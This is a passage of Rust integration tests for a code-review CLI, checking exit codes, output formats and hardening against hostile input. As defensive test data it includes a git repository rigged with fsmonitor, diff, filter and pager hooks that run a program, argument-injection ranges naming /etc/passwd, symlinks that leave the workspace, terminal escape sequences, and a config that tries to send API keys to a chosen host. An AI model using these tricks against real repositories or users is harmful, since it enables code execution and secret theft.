//! The program as its user runs it: exit codes, outputs byte by byte, bad input, hostile repositories.
#![expect(
    clippy::print_stderr,
    clippy::unwrap_used,
    reason = "a test fails by panicking"
)]

use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};

use crate::support::world::{World, code, git, text};
use crate::support::{DOCS, adding, all_bytes, contains, private_key};

#[test]
fn a_private_key_blocks_names_its_place_and_is_nowhere_to_be_found() {
    let world = World::new();
    let (key, canary) = private_key();
    let diff = adding("deploy/id_rsa", &key);
    assert!(
        contains(diff.as_bytes(), canary.as_bytes()),
        "the canary must be in the raw input"
    );
    let payload = world.write(
        "pr.json",
        serde_json::json!({"pull_request": {"number": 1, "body": key}}).to_string(),
    );
    let payload = payload.to_str().unwrap();
    for extra in [&["--json"][..], &[]] {
        let mut args = vec![
            "run",
            "pull_request.opened",
            "--diff",
            "-",
            "--payload",
            payload,
            "--log-level",
            "trace",
        ];
        args.extend(extra);
        let output = world.with_stdin(&args, diff.as_bytes());
        assert_eq!(code(&output), 30, "{}", text(&output));
        assert!(
            text(&output).contains("secrets/private-key")
                && text(&output).contains("deploy/id_rsa"),
            "{}",
            text(&output)
        );
        assert!(!text(&output).contains(&canary));
    }
    for show in [
        &["runs", "--json"][..],
        &["runs"],
        &["logs", "-n", "500"],
        &["status", "--json"],
    ] {
        assert!(!text(&world.run(show)).contains(&canary), "{show:?}");
    }
    let files = all_bytes(&world.state());
    assert!(
        files.keys().any(|f| f.ends_with(".jsonl")) && files.keys().any(|f| f.ends_with("bsm.db")),
        "{:?}",
        files.keys()
    );
    for (file, bytes) in files {
        assert!(!contains(&bytes, canary.as_bytes()), "the key is in {file}");
    }
}

#[test]
fn exit_codes_are_a_contract() {
    let world = World::new();
    let docs = world.write("docs.diff", DOCS);
    let docs = docs.to_str().unwrap();
    let run = |args: &[&str]| {
        let mut all = vec!["run"];
        all.extend(args);
        world.run(&all)
    };
    let approved = run(&["pull_request.opened", "--diff", docs, "--json"]);
    assert_eq!(code(&approved), 0);
    let json: serde_json::Value = serde_json::from_slice(&approved.stdout).unwrap();
    assert_eq!(
        (
            &json["evidence"],
            &json["decision"]["rule"],
            &json["schemaVersion"]
        ),
        (&"offline".into(), &5.into(), &2.into())
    );
    assert_eq!(json["decision"]["cause"], "documentation_only");
    assert_eq!(json["agents"].as_array().unwrap().len(), 4);
    let report = json["report"].as_str().unwrap();
    assert!(
        std::fs::read_to_string(report)
            .unwrap()
            .contains("approve_and_merge")
    );

    let simulated = run(&[
        "pull_request.opened",
        "--diff",
        docs,
        "--simulate",
        "--json",
    ]);
    assert_eq!(code(&simulated), 10);
    let json: serde_json::Value = serde_json::from_slice(&simulated.stdout).unwrap();
    assert_eq!(
        (&json["evidence"], &json["simulated"]),
        (&"simulated".into(), &true.into())
    );
    assert_eq!(json["decision"]["cause"], "simulated");
    assert!(
        std::fs::read_to_string(json["report"].as_str().unwrap())
            .unwrap()
            .starts_with("# Agents summary (simulated)")
    );

    assert_eq!(code(&run(&["pull_request.opened"])), 10);
    assert_eq!(
        code(&run(&[
            "pull_request.opened",
            "--sample",
            "risky",
            "--no-save"
        ])),
        20
    );
    let unknown = run(&["no.such.event", "--diff", docs]);
    assert_eq!(code(&unknown), 10);
    assert!(text(&unknown).contains("has no rule"));
    assert_eq!(code(&run(&[])), 2);
    assert_eq!(code(&world.run(&["--help"])), 0);
    assert_eq!(code(&world.run(&["nosuch"])), 2);
    let console = world.run(&[]);
    assert_eq!(code(&console), 2);
    assert!(text(&console).contains("needs a terminal"));
}

#[test]
fn bad_input_is_named_never_a_panic() {
    let world = World::new();
    world.write("text.txt", "hello\nworld\n");
    world.write("list.json", "[1]");
    world.write("empty", "");
    world.write("docs.diff", DOCS);
    world.write(
        "controls.diff",
        adding("a\x1b]0;owned\x07\u{202e}b", "\x1b[2J\u{9b}31m"),
    );
    let table: &[(&[&str], i32, &str)] = &[
        (&["--payload", "text.txt"], 2, "not JSON"),
        (&["--payload", "list.json"], 2, "not a JSON object"),
        (&["--payload", "empty"], 2, "not JSON"),
        (&["--payload", "nosuch.json"], 2, "nosuch.json"),
        (&["--diff", "text.txt"], 2, "not a diff"),
        (&["--diff", "nosuch.diff"], 2, "nosuch.diff"),
        (&["--diff", "empty"], 10, "nothing to review"),
        (&["--diff", "-", "--payload", "-"], 2, "cannot both"),
        (&["--sample", "nosuch"], 2, "sample"),
        (&["--repo", "nosuch"], 2, "no such folder"),
        (
            &["--diff", "docs.diff", "-C", "nosuch"],
            2,
            "no such folder",
        ),
        (&["--diff", "docs.diff", "--log-level", "!!"], 2, "level"),
        (
            &["--diff", "docs.diff", "--config", "nosuch"],
            2,
            "no such file",
        ),
        (&["--diff", "controls.diff"], 20, "hidden-text"),
    ];
    for (args, wanted, words) in table {
        let mut all = vec!["run", "pull_request.opened"];
        all.extend(*args);
        let output = world.run(&all);
        assert_eq!(code(&output), *wanted, "{args:?}: {}", text(&output));
        assert!(text(&output).contains(words), "{args:?}: {}", text(&output));
        assert!(
            !text(&output).contains("panicked"),
            "{args:?}: {}",
            text(&output)
        );
    }
    let huge = adding("huge.txt", &"x".repeat(20 << 20));
    let output = world.with_stdin(
        &["run", "pull_request.opened", "--diff", "-"],
        huge.as_bytes(),
    );
    assert!([0, 10].contains(&code(&output)), "{}", text(&output));
}

/// One corpus of what acts on a terminal, in every field of every input, through every output.
#[test]
fn outside_text_never_drives_the_terminal() {
    let world = World::new();
    let acts = "\x1b]52;c;aGk=\x07\x1b[31m\u{9b}2J\u{202e}\u{200b}\x7f\x08";
    let yaml = |key: &str| format!("{key}: {}\n", serde_json::to_string(acts).unwrap());
    world.write(
        "ws/data/agents/index.json",
        r#"{"agents": ["a.yaml", "b.yaml"]}"#,
    );
    world.write(
        "ws/data/agents/a.yaml",
        format!(
            "id: code-review-agent\n{}{}{}actions: [{}]\n",
            yaml("name"),
            yaml("role"),
            yaml("instructions"),
            serde_json::to_string(acts).unwrap()
        ),
    );
    world.write("ws/data/agents/b.yaml", yaml("id"));
    world.write("ws/agents/events.yaml", format!("version: 1\nevents:\n  x: {{agents: [code-review-agent, {}], strategy: parallel, outcome: review}}\n", serde_json::to_string(acts).unwrap()));
    world.write(
        "p.json",
        serde_json::json!({"title": acts, acts: acts}).to_string(),
    );
    let diff = adding(
        &format!("dir/{acts}.rs"),
        &format!("// TODO: {acts}\nlet password = \"{acts}aB3$xZ9#\";\n"),
    );
    let mut outputs: Vec<(String, Output)> = Vec::new();
    let mut keep = |name: &str, output: Output| outputs.push((name.to_owned(), output));
    for (name, event) in [("known", "x"), ("unknown", acts)] {
        keep(
            name,
            world.with_stdin(
                &[
                    "-C",
                    "ws",
                    "run",
                    event,
                    "--payload",
                    "p.json",
                    "--diff",
                    "-",
                ],
                diff.as_bytes(),
            ),
        );
        keep(
            name,
            world.with_stdin(
                &[
                    "-C",
                    "ws",
                    "run",
                    event,
                    "--payload",
                    "p.json",
                    "--diff",
                    "-",
                    "--json",
                ],
                diff.as_bytes(),
            ),
        );
    }
    for args in [
        &["-C", "ws", "runs"][..],
        &["-C", "ws", "runs", "--json"],
        &["-C", "ws", "check"],
        &["-C", "ws", "check", "--json"],
        &["-C", "ws", "status"],
        &["-C", "ws", "status", "--json"],
        &["-C", "ws", "logs", "-n", "999"],
        &["-C", "ws", "config"],
        &["-C", "ws", "runs", "show", acts],
        &["-C", acts, "check"],
        &["run", "x", "--diff", acts],
        &["run", "x", "--range", acts],
    ] {
        keep(&format!("{args:?}"), world.run(args));
    }
    let harmless = |bytes: &[u8]| {
        let text = String::from_utf8_lossy(bytes).into_owned();
        text.chars().find(|c| {
            (c.is_control() && *c != '\n')
                || ('\u{202a}'..='\u{202e}').contains(c)
                || *c == '\u{200b}'
        })
    };
    for (name, output) in &outputs {
        assert_eq!(
            harmless(&output.stdout),
            None,
            "{name} stdout: {}",
            text(output)
        );
        // clap quotes a wrong argument in its own message; what is ours is clean.
        assert_eq!(
            harmless(&output.stderr),
            None,
            "{name} stderr: {}",
            text(output)
        );
    }
    let mut reports = 0;
    for (file, bytes) in all_bytes(&world.path("ws/reports")).into_iter().chain(
        all_bytes(&world.state())
            .into_iter()
            .filter(|(f, _)| f.ends_with(".jsonl")),
    ) {
        assert_eq!(harmless(&bytes), None, "{file}");
        reports += 1;
    }
    assert!(reports >= 4);
}

#[test]
fn a_hostile_repository_runs_nothing_and_reads_nothing_outside() {
    let world = World::new();
    let repo = world.path("repo");
    std::fs::create_dir_all(&repo).unwrap();
    if git(&repo, &["init", "-q"]).is_none() {
        return;
    }
    let marker = world.path("marker");
    let program = world.write(
        "program.sh",
        format!("#!/bin/sh\necho ran >> {}\ncat\n", marker.display()),
    );
    std::fs::set_permissions(
        &program,
        std::os::unix::fs::PermissionsExt::from_mode(0o755),
    )
    .unwrap();
    std::fs::write(repo.join("a.txt"), "one\n").unwrap();
    std::fs::write(repo.join(".gitattributes"), "*.txt diff=evil filter=evil\n").unwrap();
    git(&repo, &["add", "-A"]);
    git(&repo, &["commit", "-qm", "one"]);
    std::fs::write(repo.join("a.txt"), "two\n").unwrap();
    git(&repo, &["commit", "-qam", "two"]);
    let run = program.to_str().unwrap();
    for (key, value) in [
        ("core.fsmonitor", run),
        ("core.hooksPath", world.path("").to_str().unwrap()),
        ("diff.external", run),
        ("diff.evil.textconv", run),
        ("diff.evil.command", run),
        ("filter.evil.clean", run),
        ("filter.evil.smudge", run),
        ("filter.evil.process", run),
        ("core.pager", run),
        ("pager.diff", run),
        ("core.sshCommand", run),
        ("core.alternateRefsCommand", run),
        ("core.attributesFile", "/etc/passwd"),
    ] {
        git(&repo, &["config", key, value]);
    }
    // What is tried must be able to work: an unguarded git does run the program.
    let plain = Command::new("git")
        .args(["diff", "HEAD~1", "HEAD"])
        .current_dir(&repo)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .status();
    assert!(
        plain.is_ok() && marker.exists(),
        "the trap itself does not work"
    );
    std::fs::remove_file(&marker).unwrap();
    let outside = world.write("outside/secret.txt", "outside-canary");
    let found = world.run(&[
        "run",
        "pull_request.opened",
        "--repo",
        "repo",
        "--range",
        "HEAD~1..HEAD",
        "--json",
    ]);
    // Read whole; and a text file is a program's input as far as anybody knows.
    assert_eq!(code(&found), 10, "{}", text(&found));
    assert!(
        text(&found).contains("\"cause\": \"rules_only\"")
            && text(&found).contains("\"filesSeen\": 1")
            && text(&found).contains("\"filesTotal\": 1"),
        "{}",
        text(&found)
    );
    symlink(&outside, repo.join("link.txt")).unwrap();
    symlink(world.path("outside"), repo.join("folder")).unwrap();
    git(
        &repo,
        &[
            "-c",
            "core.fsmonitor=false",
            "-c",
            "filter.evil.clean=cat",
            "-c",
            "filter.evil.process=",
            "add",
            "-A",
        ],
    );
    std::fs::remove_file(&marker).ok();
    let health = world.run(&["run", "repository.health_check", "--repo", "repo", "--json"]);
    assert!(
        text(&health).contains("a symbolic link") && !text(&health).contains("outside-canary"),
        "{}",
        text(&health)
    );
    for range in [
        "--output=pwned..HEAD",
        "-O/etc/passwd",
        "HEAD..--ext-diff",
        "nosuch..HEAD",
        "",
        "a..b..c",
    ] {
        let output = world.run(&[
            "run",
            "pull_request.opened",
            "--repo",
            "repo",
            &format!("--range={range}"),
        ]);
        assert_eq!(code(&output), 2, "{range}: {}", text(&output));
    }
    assert!(!marker.exists(), "a program of the repository ran");
    assert!(!repo.join("pwned").exists() && !world.path("pwned").exists());
}

#[test]
fn links_out_of_a_workspace_are_not_followed() {
    let world = World::new();
    let canary = world.write("outside.yaml", "id: stolen\nname: outside-canary\n");
    assert_eq!(code(&world.run(&["init", "ws"])), 0);
    let ws = world.path("ws");
    std::fs::remove_file(ws.join("data/agents/runner.yaml")).unwrap();
    symlink(&canary, ws.join("data/agents/runner.yaml")).unwrap();
    std::fs::remove_file(ws.join("data/knowledge/review-policy.md")).unwrap();
    symlink(&canary, ws.join("data/knowledge/review-policy.md")).unwrap();
    let check = world.run(&["-C", "ws", "check"]);
    assert_eq!(code(&check), 1);
    assert!(
        text(&check).contains("runner.yaml: data/agents/runner.yaml: leaves its folder"),
        "{}",
        text(&check)
    );
    assert!(!text(&check).contains("outside-canary"));
    std::fs::remove_dir_all(ws.join("reports")).unwrap();
    let elsewhere = world.path("elsewhere");
    std::fs::create_dir(&elsewhere).unwrap();
    symlink(&elsewhere, ws.join("reports")).unwrap();
    let run = world.run(&["-C", "ws", "run", "pull_request.opened", "--sample", "docs"]);
    assert_eq!(code(&run), 10, "the decision stands: {}", text(&run));
    assert_eq!(
        std::fs::read_dir(&elsewhere).unwrap().count(),
        0,
        "a report was written through a link"
    );
}

#[test]
fn an_untrusted_workspace_sends_no_byte_and_trust_is_pinned() {
    let world = World::new();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    listener.set_nonblocking(true).unwrap();
    let url = format!("http://{}/v1", listener.local_addr().unwrap());
    world.write("ws/agents/registry.yaml", "version: \"1.0\"\nagents: []\n");
    let models = format!(
        "version: 1\nproviders:\n  openai: {{kind: chat, baseUrl: '{url}', keyEnv: [OPENAI_API_KEY, SSH_AUTH_SOCK], headers: {{x-leak: yes}}}}\nmodels:\n  m: {{provider: openai}}\ndefault: m\n"
    );
    world.write("ws/agents/models.yaml", &models);
    assert_eq!(code(&world.run(&["init", "full"])), 0);
    std::fs::copy(
        world.path("ws/agents/models.yaml"),
        world.path("full/agents/models.yaml"),
    )
    .unwrap();
    let run = |world: &World| {
        let mut command = world.command(&[
            "-C",
            "full",
            "run",
            "pull_request.opened",
            "--sample",
            "docs",
            "--json",
        ]);
        // The built-in openai would be asked with this key; a closed port keeps the test on this machine.
        command
            .env("OPENAI_API_KEY", "canary-key-0123456789")
            .env("SAFE_MODE", "1")
            .output()
            .unwrap()
    };
    let output = run(&world);
    assert_eq!(code(&output), 10, "rules alone decide: {}", text(&output));
    assert!(text(&output).contains("\"cause\": \"policy_untrusted\""));
    assert!(
        listener.accept().is_err(),
        "an untrusted workspace was connected to"
    );
    let check = world.run(&["-C", "full", "check"]);
    assert!(
        text(&check).contains("provider openai is ignored: the workspace is not trusted"),
        "{}",
        text(&check)
    );

    assert_eq!(code(&world.run(&["trust", "full"])), 0);
    assert!(
        text(&world.run(&["-C", "full", "status", "--json"])).contains("\"trust\": \"trusted\"")
    );
    // Even trusted, a workspace cannot pair an existing key with its own host.
    let output = run(&world);
    assert!(
        listener.accept().is_err(),
        "the key was paired with a new host: {}",
        text(&output)
    );
    std::fs::write(
        world.path("full/agents/models.yaml"),
        format!("{models}# changed\n"),
    )
    .unwrap();
    assert!(
        text(&world.run(&["-C", "full", "status", "--json"])).contains("\"trust\": \"changed\"")
    );
    assert!(
        !all_bytes(&world.state())
            .values()
            .any(|b| contains(b, b"canary-key-0123456789"))
    );
}

#[test]
fn the_workspace_commands_do_what_they_say() {
    let world = World::new();
    let init = world.run(&["init", "ws"]);
    assert_eq!(code(&init), 0);
    assert!(text(&init).contains("wrote ws/agents/events.yaml"));
    assert!(
        std::fs::read_to_string(world.path("ws/.gitignore"))
            .unwrap()
            .contains("reports/")
    );
    assert!(text(&world.run(&["init", "ws"])).contains("kept  ws/agents/events.yaml"));
    assert_eq!(code(&world.run(&["-C", "ws", "check"])), 0);
    std::fs::write(
        world.path("ws/data/agents/runner.yaml"),
        "id: runner\nrisk:\n\tlevel: low\n",
    )
    .unwrap();
    let check = world.run(&["-C", "ws", "check", "--json"]);
    assert_eq!(code(&check), 1);
    let problems: serde_json::Value = serde_json::from_slice(&check.stdout).unwrap();
    assert!(
        problems
            .as_array()
            .unwrap()
            .iter()
            .any(|p| p["file"] == "data/agents/runner.yaml" && p["line"] == 3),
        "{problems}"
    );
    world.write("ws/bsm.yaml", "breaker: {failures: 3}\n");
    let config = world
        .command(&["-C", "ws", "config"])
        .env("BSM_RETRY_ATTEMPTS", "2")
        .output()
        .unwrap();
    let line = |key: &str| {
        text(&config)
            .lines()
            .find(|l| l.starts_with(key))
            .unwrap_or_default()
            .split_whitespace()
            .collect::<Vec<_>>()
            .join(" ")
    };
    assert_eq!(line("breaker.failures"), "breaker.failures 3 bsm.yaml");
    assert_eq!(
        line("retry.attempts"),
        "retry.attempts 2 $BSM_RETRY_ATTEMPTS"
    );
    world.write("ws/bsm.yaml", "breaker: {failurs: 3}\n");
    let wrong = world.run(&["-C", "ws", "config"]);
    assert_eq!(code(&wrong), 2);
    assert!(text(&wrong).contains("bsm.yaml:1:"), "{}", text(&wrong));
    for shell in ["bash", "zsh", "fish"] {
        assert!(world.run(&["completions", shell]).stdout.len() > 1_000);
    }
    assert!(text(&world.run(&["man"])).contains(".TH"));
    assert_eq!(
        code(&world.run(&["runs", "show", "nosuch"])),
        0,
        "no journal yet is no failure"
    );
}

#[test]
fn a_state_directory_that_others_can_read_is_refused() {
    let world = World::new();
    assert_eq!(
        code(&world.run(&["run", "pull_request.opened", "--sample", "docs"])),
        0
    );
    let state = std::fs::read_dir(world.state())
        .unwrap()
        .flatten()
        .map(|e| e.path())
        .find(|p| p.is_dir())
        .unwrap();
    for (file, _) in all_bytes(&state) {
        let mode = std::os::unix::fs::PermissionsExt::mode(
            &std::fs::metadata(&file).unwrap().permissions(),
        ) & 0o777;
        assert_eq!(mode, 0o600, "{file}");
    }
    std::fs::set_permissions(&state, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let refused = world.run(&["run", "pull_request.opened", "--sample", "docs"]);
    assert_eq!(code(&refused), 1);
    assert!(
        text(&refused).contains("others can read it"),
        "{}",
        text(&refused)
    );
}

/// Past reviews in and out again: wrong lines are named and left out, what is the same is found first, and what
/// is deleted is gone.
#[test]
fn memory_goes_in_and_out_and_finds_what_is_alike() {
    let home = World::new();
    let lines = [
        r#"{"type":"code_review","id":"a","code":"fn charge(card: &Card) -> Receipt","review":"block","createdAt":"2026-11-01T10:00:00Z"}"#,
        r#"{"type":"code_review","id":"b","code":"fn refund(card: &Card) -> Receipt","review":"approve"}"#,
        "not json",
        r#"{"type":"code_review","id":"c","code":"x","createdAt":"yesterday"}"#,
        "",
        r#"{"type":"orchestration_decision","id":"d","code":"Security vulnerabilities detected: x","review":"block_pr","metadata":{"agents":["security-agent"]}}"#,
        r#"{"type":"code_review","id":"b","code":"fn settle(invoice: Invoice)","review":"comment"}"#,
    ];
    let file = home.write("items.jsonl", lines.join("\n"));
    let imported = home.run(&["memory", "import", file.to_str().unwrap()]);
    assert_eq!(code(&imported), 2, "{}", text(&imported));
    assert!(
        text(&imported).contains("4 items remembered, 2 lines refused"),
        "{}",
        text(&imported)
    );
    for named in ["line 3:", "line 4: createdAt"] {
        assert!(text(&imported).contains(named), "{}", text(&imported));
    }
    let search = |asked: &str| {
        let output = home.run(&["memory", "search", asked, "-k", "2", "--json"]);
        assert_eq!(code(&output), 0, "{}", text(&output));
        serde_json::from_slice::<serde_json::Value>(&output.stdout).unwrap()
    };
    let found = search("fn charge(card: &Card) -> Receipt { todo }");
    let first = &found["hits"][0];
    assert_eq!(
        (&first["id"], &first["overlap"], &first["union"]),
        (&"a".into(), &4.into(), &5.into()),
        "{found}"
    );
    assert_eq!(first["type"], "code_review");
    assert!(
        found["hits"]
            .as_array()
            .unwrap()
            .iter()
            .all(|h| h["code"] != "fn refund(card: &Card) -> Receipt")
    );
    let why = home.run(&["memory", "patterns", "--json"]);
    let why: serde_json::Value = serde_json::from_slice(&why.stdout).unwrap();
    assert_eq!((&why["total"], &why["rejections"]), (&1.into(), &1.into()));
    let copy = home.path("copy.jsonl");
    let exported = home.run(&["memory", "export", copy.to_str().unwrap()]);
    assert_eq!(code(&exported), 0, "{}", text(&exported));
    let other = World::new();
    let again = other.run(&["memory", "import", copy.to_str().unwrap()]);
    assert_eq!(code(&again), 0, "{}", text(&again));
    assert_eq!(code(&home.run(&["memory", "delete", "a"])), 0);
    assert_eq!(code(&home.run(&["memory", "delete", "a"])), 2);
    let left = search("fn charge(card: &Card) -> Receipt");
    assert!(
        left["hits"]
            .as_array()
            .unwrap()
            .iter()
            .all(|h| h["id"] != "a"),
        "{left}"
    );
}

/// A change with one finding of every weight that is no secret, and one that is.
fn mixed() -> String {
    let token = format!("ghp_{}", "a1B2c3D4e5f6".repeat(3));
    adding(
        "src/a b.py",
        &format!("x = eval(text)\n# FIXME later\nt = \"{token}\"\n"),
    )
}

/// Holds a log against the standard's own schema, where there is a Python that can (CI brings one). The schema
/// comes with the types that the tests read logs with.
pub(crate) fn valid_sarif(log: &Path) {
    match std::env::var_os("BSM_SARIF_VALIDATOR") {
        None => eprintln!("SKIPPED: BSM_SARIF_VALIDATOR names no validator"),
        Some(validator) => {
            let checked = Command::new(validator)
                .arg("validate")
                .arg(log)
                .args(["--rule-kind", "Sarif;Ghas", "--level", "Error"])
                .output()
                .unwrap();
            let said = text(&checked);
            assert!(
                said.contains("1 file scanned") || said.contains("files scanned"),
                "{said}"
            );
            assert!(!said.contains(": error "), "{said}");
        }
    }
    let Some(python) = std::env::var_os("BSM_PYTHON") else {
        eprintln!("SKIPPED: BSM_PYTHON names no Python with jsonschema");
        return;
    };
    // Only of this platform: what others need has not been fetched.
    let platform = format!("{}-unknown-linux-gnu", std::env::consts::ARCH);
    let metadata = Command::new(env!("CARGO"))
        .args(["metadata", "--format-version", "1", "--locked", "--offline"])
        .args(["--filter-platform", &platform, "--manifest-path"])
        .arg(concat!(env!("CARGO_MANIFEST_DIR"), "/Cargo.toml"))
        .output()
        .unwrap();
    let metadata: serde_json::Value = serde_json::from_slice(&metadata.stdout).unwrap();
    let packages = metadata["packages"].as_array().unwrap();
    let types = packages
        .iter()
        .find(|p| p["name"] == "serde-sarif")
        .unwrap();
    let manifest = PathBuf::from(types["manifest_path"].as_str().unwrap());
    let program = "import json, sys, jsonschema\n\
        schema, log = (json.load(open(p)) for p in sys.argv[1:])\n\
        check = jsonschema.validators.validator_for(schema)(schema)\n\
        errors = [e.message for e in check.iter_errors(log)]\n\
        sys.exit('\\n'.join(errors) or 0)";
    let checked = Command::new(python)
        .args(["-c", program])
        .arg(manifest.with_file_name("src").join("schema.json"))
        .arg(log)
        .output()
        .unwrap();
    assert!(checked.status.success(), "{}", text(&checked));
}

#[test]
fn the_forms_for_other_tools_hold_the_findings_and_no_secret() {
    let world = World::new();
    let diff = world.write("c.diff", mixed());
    let out = world.run(&[
        "run",
        "pull_request.opened",
        "--no-save",
        "--diff",
        diff.to_str().unwrap(),
        "--sarif",
        "out.sarif",
        "--rdjsonl",
        "out.rdjsonl",
        "--markdown",
        "out.md",
        "--annotations",
    ]);
    assert_eq!(code(&out), 30, "{}", text(&out));
    let read = |name: &str| std::fs::read_to_string(world.path(name)).unwrap();
    let printed = text(&out);
    for (name, form) in [
        ("sarif", read("out.sarif")),
        ("rdjsonl", read("out.rdjsonl")),
        ("markdown", read("out.md")),
        ("annotations", printed.clone()),
    ] {
        assert!(form.contains("github-token"), "{name}: {form}");
        assert!(!form.contains("a1B2c3D4"), "{name}");
        assert!(form.contains("dynamic-code"), "{name}");
    }
    let log: serde_sarif::sarif::Sarif = serde_json::from_str(&read("out.sarif")).unwrap();
    let results = log.runs[0].results.as_ref().unwrap();
    assert!(results.len() >= 3, "{results:?}");
    valid_sarif(&world.path("out.sarif"));
    let sarif = read("out.sarif");
    assert!(sarif.contains("src/a%20b.py") && sarif.contains("files reviewed: 1 of 1"));
    assert!(
        printed
            .lines()
            .next()
            .unwrap()
            .starts_with("::error file=src/a b.py,line=3,"),
        "{printed}"
    );
    // What one wrote, the other reads: as findings of a linter.
    for file in ["out.sarif", "out.rdjsonl"] {
        let again = world.run(&[
            "run",
            "pull_request.opened",
            "--no-save",
            "--diff",
            diff.to_str().unwrap(),
            "--findings",
            file,
            "--json",
        ]);
        let value: serde_json::Value = serde_json::from_slice(&again.stdout).unwrap();
        let rules: Vec<_> = value["agents"]
            .as_array()
            .unwrap()
            .iter()
            .flat_map(|a| a["findings"].as_array().unwrap())
            .map(|f| f["rule"].as_str().unwrap())
            .collect();
        assert!(
            rules.contains(&"lint:bsm/security-dynamic-code"),
            "{file}: {rules:?}"
        );
    }
    let bad = world.write("bad.sarif", "hello");
    let out = world.run(&[
        "run",
        "pull_request.opened",
        "--no-save",
        "--sample",
        "docs",
        "--findings",
        bad.to_str().unwrap(),
    ]);
    assert_eq!(code(&out), 2);
    assert!(
        text(&out).contains("neither SARIF 2.1.0 nor rdjson"),
        "{}",
        text(&out)
    );
}

#[test]
fn a_workspaces_own_rules_ignores_and_baseline_are_in_force() {
    let world = World::new();
    assert_eq!(code(&world.run(&["init", "ws"])), 0);
    let run = |diff: &str, more: &[&str]| {
        let file = world.write("c.diff", diff);
        // Its rules take effect once they were looked at.
        assert_eq!(code(&world.run(&["trust", "ws"])), 0);
        let mut args = vec![
            "-C",
            "ws",
            "run",
            "pull_request.opened",
            "--no-save",
            "--json",
            "--diff",
        ];
        args.push(file.to_str().unwrap());
        args.extend(more);
        let out = world.run(&args);
        serde_json::from_slice::<serde_json::Value>(&out.stdout)
            .unwrap_or_else(|e| panic!("{e}: {}", text(&out)))
    };
    let reason =
        |value: &serde_json::Value| value["decision"]["reason"].as_str().unwrap().to_owned();
    assert_eq!(run(DOCS, &[])["decision"]["action"], "approve_and_merge");

    // A rule of one's own, and one that cannot be compiled: found, named, and no approval.
    world.write(
        "ws/.gitleaks.toml",
        "[[rules]]\nid = \"ours\"\nregex = '''ours_[0-9]{6}'''\n[[rules]]\nid = \"broken\"\nregex = '''(?<!a)b'''\n",
    );
    let value = run(&adding("a.txt", "x ours_123456\n"), &[]);
    assert_eq!(value["decision"]["action"], "block_pr");
    assert!(
        reason(&value).contains("secrets/ours"),
        "{}",
        reason(&value)
    );
    let value = run(DOCS, &[]);
    assert!(reason(&value).contains("compiled"));
    assert!(
        value["notes"].to_string().contains("secrets/broken"),
        "{}",
        value["notes"]
    );
    let check = world.run(&["-C", "ws", "check"]);
    assert_eq!(code(&check), 1);
    assert!(text(&check).contains("secrets/broken"), "{}", text(&check));
    std::fs::remove_file(world.path("ws/.gitleaks.toml")).unwrap();

    // Ignored paths are no part of the change.
    world.write("ws/.bsmignore", "generated/\n");
    let both = format!("{DOCS}{}", adding("generated/a.py", "x = eval(text)\n"));
    let value = run(&both, &[]);
    // No rule looks at them; but a change with code in it is no documentation.
    assert_eq!(value["decision"]["cause"], "rules_only");
    assert_eq!(value["coverage"]["ignored"], 1);

    // An inline ignore in the change needs a person; the operator's baseline does not.
    let mark = concat!("bsm", ":ignore");
    let silenced = adding(
        "src/a.py",
        &format!("x = eval(text)  # {mark} security/dynamic-code -- a constant\n"),
    );
    let value = run(&silenced, &[]);
    assert_eq!(value["decision"]["action"], "manual_review");
    assert!(
        reason(&value).contains("suppresses security/dynamic-code"),
        "{}",
        reason(&value)
    );
    assert_eq!(value["suppressed"][0]["by"], "inline");
    world.write("tree/src/b.py", "x = eval(text)\n");
    let made = world.run(&[
        "rules",
        "baseline",
        "tree",
        "--output",
        "ws/.bsmbaseline.json",
    ]);
    assert_eq!(code(&made), 0, "{}", text(&made));
    let value = run(&adding("src/b.py", "x = eval(text)\n"), &[]);
    assert_eq!(value["decision"]["cause"], "rules_only", "{value}");
    assert_eq!(value["suppressed"][0]["by"], "baseline");

    // A file that could not be reviewed is named, and a lowered floor approves nothing.
    let binary =
        "diff --git a/x.png b/x.png\nindex 1..2 100644\nBinary files a/x.png and b/x.png differ\n";
    let with_binary = format!("{DOCS}{binary}");
    let settings = "review:\n  severities:\n    quality/binary: info\n";
    world.write("ws/bsm.yaml", settings);
    assert!(reason(&run(&with_binary, &[])).contains("files reviewed: 1 of 2"));
    world.write("ws/bsm.yaml", format!("{settings}  coverageFloor: 50\n"));
    assert_eq!(run(&with_binary, &[])["decision"]["cause"], "coverage");
    world.write("ws/bsm.yaml", "review:\n  coverageFloor: 101\n");
    assert_eq!(code(&world.run(&["trust", "ws"])), 0);
    assert_eq!(code(&world.run(&["-C", "ws", "config"])), 2);
}

#[test]
fn the_rules_command_lists_shows_and_tries() {
    let world = World::new();
    let out = world.run(&["rules", "list", "--pack", "supply-chain", "--json"]);
    let rules: Vec<serde_json::Value> = serde_json::from_slice(&out.stdout).unwrap();
    assert!(
        rules.len() >= 20
            && rules
                .iter()
                .all(|r| r["why"].as_str().is_some_and(|w| !w.is_empty()))
    );
    assert_eq!(code(&world.run(&["rules", "--pack", "nothing"])), 2);
    for name in ["secrets/github-token", "github-token", "github-pat"] {
        let shown = text(&world.run(&["rules", "show", name]));
        assert!(
            shown.contains("Revoke it") && shown.contains("Leaves alone:"),
            "{shown}"
        );
    }
    assert_eq!(code(&world.run(&["rules", "show", "no-such"])), 2);
    let out = world.with_stdin(&["rules", "test", "-"], mixed().as_bytes());
    assert_eq!(code(&out), 30, "{}", text(&out));
    assert!(text(&out).contains("block: ") && !text(&out).contains("a1B2c3D4"));
    assert_eq!(
        code(&world.with_stdin(&["rules", "test", "-"], DOCS.as_bytes())),
        0
    );
    assert_eq!(
        code(&world.with_stdin(&["rules", "test", "-"], b"hello")),
        2
    );
}

#[test]
fn a_filter_looks_beyond_the_change_and_commits_of_a_range_are_read() {
    let world = World::new();
    let repo = world.path("repo");
    std::fs::create_dir(&repo).unwrap();
    if git(&repo, &["init", "-q"]).is_none() {
        return;
    }
    let commit = |message: &str| {
        git(&repo, &["add", "-A"]).unwrap();
        git(&repo, &["commit", "-q", "-m", message]).unwrap();
    };
    world.write("repo/a.py", "x = eval(text)\n\n\n\n\n\n\n\ny = 1\n");
    world.write("repo/b.py", "z = eval(text)\n");
    commit("first");
    world.write("repo/a.py", "x = eval(text)\n\n\n\n\n\n\n\ny = 2\n");
    commit("fixup! first");
    let found = |mode: &str| {
        let out = world.run(&[
            "run",
